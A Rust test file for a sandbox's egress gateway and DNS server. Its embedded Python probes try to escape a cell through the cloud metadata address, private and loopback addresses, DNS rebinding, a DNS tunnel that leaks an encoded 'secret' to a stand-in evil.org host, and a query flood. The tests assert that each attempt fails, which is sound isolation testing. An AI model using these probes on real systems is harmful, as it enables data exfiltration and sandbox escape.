//! Attacks on the door and the name server from inside a cell. Each says what would be reached if it worked.

use crate::{
    street::{Street, allow, outside},
    support::Rig,
    world::{DOOR, ONE, TWO, World},
};
use model::{EnvironmentSpec, Generation};
use runtime::Runtime as _;
use std::{collections::BTreeSet, net::TcpListener};

fn allow_public(spec: &mut EnvironmentSpec, hosts: &[&str]) {
    for host in hosts {
        spec.egress.hosts.insert(host.parse().unwrap(), BTreeSet::from([443]));
    }
}

/// Says of each name what comes of connecting to its port 443.
fn tries(names: &[&str]) -> String {
    format!(
        "for name in {names:?}:
    begun = time.time()
    try: print(name, (connect(name, 443).recv(20) or b'nothing').decode())
    except OSError as e: print(name, type(e).__name__)
    if time.time() - begun > 100: print('slow')
"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn addresses_lead_nowhere() {
    let address = outside("hello");
    let street = Street::with(&[("api.example.com", address)]).await;
    let host = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = host.local_addr().unwrap().port();
    let own = std::process::Command::new("ip")
        .args(["-4", "-o", "addr"])
        .output()
        .unwrap();
    let own = String::from_utf8_lossy(&own.stdout).into_owned();
    let own: Vec<&str> = own
        .lines()
        .filter_map(|line| line.split_whitespace().nth(3)?.split('/').next())
        .collect();
    let seen = street
        .inside(&format!(
            "own = {own:?}
for address in ['169.254.169.254', '8.8.8.8', '10.0.0.1', '172.17.0.1', '192.168.0.1'] + own:
    if address.startswith('127.'): continue
    for port in (80, {port}, {}):
        begun = time.time()
        # Where the door listens it takes the connection and breaks it. Whoever is silent has been reached.
        try:
            s = connect(address, port); s.settimeout(20); s.recv(1); print('reached', address, port)
        except TimeoutError: print('silent', address, port)
        except OSError: pass
        if time.time() - begun > 100: print('slow', address, port)
for address in ['10.77.200.200', '10.77.255.254', '10.77.0.1']:
    try:
        s = connect(address, {0}); s.settimeout(10); print('reached', address, s.recv(5))
    except OSError as e: pass
for to in ['8.8.8.8', '169.254.169.254', '10.77.200.200']:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)
    try:
        s.connect((to, 53)); s.send(b'x'); print('reached', s.recv(10))
    except OSError: pass
try: socket.socket(socket.AF_INET6).connect(('2606:4700::1111', 443)); print('reached v6')
except OSError: pass
print('done')",
            address.port()
        ))
        .await;
    assert_eq!(seen, "done\n");
    assert_eq!(street.fact().await.passed, []);
    street.end().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_of_another_environment_have_no_address_here() {
    let address = outside("hello");
    let street = Street::with(&[("api.example.com", address)]).await;
    let mut other = street.spec.clone();
    other.environment = street.rig.environment();
    allow(&mut other, &[]);
    crate::support::up(&street.runtime, &other).await;
    crate::support::ready(&street.runtime, &other.environment, "shell").await;
    let found = street.inside("print(resolve('api.example.com')[0])").await;
    let program = format!(
        "import socket
try: print(socket.gethostbyname('api.example.com'))
except OSError as e: print(type(e).__name__)
try: socket.create_connection(('{}', {}), timeout=100); print('reached')
except OSError as e: print('refused' if not isinstance(e, TimeoutError) else 'slow')",
        found.trim(),
        address.port()
    );
    let (_, seen) = crate::support::exec(
        &street.runtime,
        &other.environment,
        "shell",
        &["python3", "-c", &program],
    )
    .await;
    assert_eq!(seen, "gaierror\nrefused\n");
    street.runtime.remove(&other.environment, Generation(9)).await.unwrap();
    street.end().await;
}

/// Asks the name server in its own language, over UDP and over TCP.
const DNS: &str = "\
import struct
def ask(name, kind, tcp=False):
    query = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0)
    query += b''.join(bytes([len(l)]) + l for l in name.encode().split(b'.')) + struct.pack('>BHH', 0, kind, 1)
    if tcp:
        s = socket.create_connection(('10.77.0.1', 53), timeout=100)
        s.sendall(struct.pack('>H', len(query)) + query)
        s.shutdown(socket.SHUT_WR)
        reply = everything(s)[2:]
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(100); s.connect(('10.77.0.1', 53))
        s.send(query)
        reply = s.recv(600)
    return (reply[3] & 15, struct.unpack('>H', reply[6:8])[0])
";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_asked_for_does_not_leave_the_machine() {
    let mut rig = Rig::start();
    let world = World::with(&mut rig);
    let street = Street::on(rig, |spec| allow_public(spec, &["*.example.com"])).await;
    let seen = street
        .inside(&format!(
            "{DNS}
for tcp in (False, True):
    # A, NS, MX, TXT, AAAA, SRV, HTTPS, ANY
    print([ask('data.example.com', kind, tcp) for kind in (1, 2, 15, 16, 28, 33, 65, 255)])
    print([ask('c2VjcmV0.tunnel.evil.org', kind, tcp) for kind in (1, 2, 15, 16, 28, 33, 65, 255)])
print(ask('example.com', 1), ask('a.example.com.evil.org', 1), ask('169.254.169.254', 1), ask('sh ell.example.com', 1))
known = len(resolve('data.example.com'))
found = 0
for n in range(400):
    found += ask(f'n{{n}}.example.com', 1)[1]
print(known, found)"
        ))
        .await;
    let each = "[(0, 1), (0, 0), (0, 0), (0, 0), (0, 0), (0, 0), (0, 0), (0, 0)]\n[(3, 0), (3, 0), (3, 0), (3, 0), (3, 0), (3, 0), (3, 0), (3, 0)]\n";
    assert_eq!(seen, format!("{each}{each}(3, 0) (3, 0) (3, 0) (3, 0)\n1 255\n"));
    assert_eq!(world.asked(), [] as [&str; 0]);
    let fact = street.fact().await;
    assert!(
        fact.refused.len() <= 64 && fact.refused_more > 0,
        "it is bounded: {fact:?}"
    );
    assert!(
        fact.refused
            .iter()
            .any(|refused| refused.name == "c2vjcmv0.tunnel.evil.org")
    );
    assert!(
        fact.refused.iter().any(|refused| refused.why.is_some()),
        "too many names are told as that"
    );
    street.end().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_that_lead_inwards_are_refused_whatever_they_led_to_before() {
    let mut rig = Rig::start();
    let world = World::with(&mut rig);
    let hosts = [
        "one", "loop", "meta", "lan", "mapped", "self", "zero", "mixed", "turns", "moves",
    ];
    let hosts: Vec<String> = hosts.iter().map(|host| format!("{host}.example.com")).collect();
    let hosts: Vec<&str> = hosts.iter().map(String::as_str).collect();
    let street = Street::on(rig, |spec| allow_public(spec, &hosts)).await;
    let (one, two) = (world.listen(ONE, "one"), world.listen(TWO, "two"));
    let beside = world.listen_beside_door("0.0.0.0", "the door's own");
    for (name, addresses) in [
        ("one", &[ONE][..]),
        ("loop", &["127.0.0.1", "::1"]),
        ("meta", &["169.254.169.254", "fd00:ec2::254"]),
        ("lan", &["10.0.0.5", "192.168.1.1", "172.16.0.1", "fc00::1"]),
        ("mapped", &["::ffff:127.0.0.1", "64:ff9b::7f00:1"]),
        ("self", &[DOOR]),
        ("zero", &["0.0.0.0", "::"]),
        ("mixed", &["127.0.0.1", TWO]),
        ("turns", &[ONE]),
        ("moves", &[ONE]),
    ] {
        world.name(&format!("{name}.example.com"), addresses);
    }
    let seen = street.inside(&tries(&hosts)).await;
    let reset = |name: &str| format!("{name}.example.com ConnectionResetError\n");
    let refused: String = ["loop", "meta", "lan", "mapped", "self", "zero"].map(reset).concat();
    assert_eq!(
        seen,
        format!("one.example.com one\n{refused}mixed.example.com two\nturns.example.com one\nmoves.example.com one\n")
    );
    let fact = street.fact_until(|fact| fact.refused.len() >= 6).await;
    let why = |name: &str| {
        let name = format!("{name}.example.com");
        fact.refused
            .iter()
            .find(|refused| refused.name == name)
            .unwrap()
            .why
            .clone()
            .unwrap()
    };
    assert!(
        why("loop").contains("127.0.0.1") || why("loop").contains("::1"),
        "{fact:?}"
    );
    assert!(why("self").contains("this machine"), "{fact:?}");

    // Afterwards: one name leads inwards, one has moved for good.
    world.name("turns.example.com", &["127.0.0.1"]);
    world.name("moves.example.com", &[TWO]);
    world.unlisten(ONE);
    let moved = street.inside(&tries(&["moves.example.com"])).await;
    assert_eq!(
        moved, "moves.example.com two\n",
        "the old address does not answer, so the new one is asked for"
    );
    // What is known of a name is good for some seconds.
    tokio::time::sleep(std::time::Duration::from_secs(6)).await;
    let turned = street.inside(&tries(&["turns.example.com"])).await;
    assert_eq!(turned, "turns.example.com ConnectionResetError\n");
    assert_eq!((*one.lock().unwrap(), *two.lock().unwrap()), (3, 2));
    // The kernel completes a connection to the machine itself before the door can look; no byte goes over it.
    assert!(*beside.lock().unwrap() <= 1);
    street.end().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_of_one_environment_is_not_anothers() {
    let address = outside("hello");
    let street = Street::with(&[("api.example.com", address)]).await;
    let mut other = street.spec.clone();
    other.environment = street.rig.environment();
    crate::support::up(&street.runtime, &other).await;
    crate::support::ready(&street.runtime, &other.environment, "shell").await;
    let port = address.port();
    let flood = format!(
        "import socket, threading, time
end = time.time() + 4
name = socket.gethostbyname('api.example.com')
def names():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('10.77.0.1', 53))
    n = 0
    while time.time() < end:
        n += 1
        try: s.send(b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([8]) + b'%08d' % n + b'\\4evil\\3org\\0\\0\\1\\0\\1')
        except OSError: pass
def connections():
    while time.time() < end:
        try: socket.create_connection((name, {port}), timeout=1).close()
        except OSError: pass
threads = [threading.Thread(target=t) for t in (names, connections, connections)]
[t.start() for t in threads]; [t.join() for t in threads]
print('done')"
    );
    let argv = ["python3", "-c", &flood];
    let flooding = crate::support::exec(&street.runtime, &other.environment, "shell", &argv);
    let visits = format!(
        "for n in range(10):
    print(connect('api.example.com', {port}).recv(5).decode()); time.sleep(0.2)"
    );
    let visiting = street.inside(&visits);
    let ((_, flooded), visited) = tokio::join!(flooding, visiting);
    assert_eq!((flooded.as_str(), visited), ("done\n", "hello\n".repeat(10)));
    street.runtime.remove(&other.environment, Generation(9)).await.unwrap();
    street.end().await;
}
